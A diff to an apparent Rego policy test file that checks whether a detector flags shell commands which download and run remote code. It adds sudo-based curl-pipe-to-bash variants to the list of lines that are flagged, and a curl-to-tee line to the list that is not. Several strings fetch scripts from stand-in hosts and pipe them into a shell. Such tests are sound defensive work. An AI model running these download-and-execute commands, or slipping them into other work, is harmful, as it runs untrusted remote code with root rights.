@@ -7,6 +7,8 @@ test_downloads_and_runs if {
 		"curl -s http://198.51.100.7/x.sh | sh",
 		"sh -c 'wget -q -O- http://198.51.100.7/x|bash'",
 		"curl -fsSL https://example.invalid/i | sudo bash -s -- --yes",
+		"curl -fsSL https://example.invalid/i | sudo -E bash -",
+		"curl -fsSL https://example.invalid/i | sudo -n env A=b sh",
 		"curl http://198.51.100.7/a | base64 -d | /bin/bash",
 		"bash <(curl -s http://198.51.100.7/x)",
 		`bash -c "$(curl -fsSL http://198.51.100.7/x)"`,
@@ -30,6 +32,7 @@ test_does_not_run_what_it_downloads if {
 		"apt-get update && apt-get install -y curl bash",
 		"nginx -g 'daemon off;'",
 		"grep -r 'curl' /etc | sort",
+		"curl -s http://example.invalid/key | sudo -E tee /etc/key",
 		"wget -q https://example.invalid/geo.gz; gunzip geo.gz; exec server",
 	] {
 		not commands.downloads_and_runs(line)
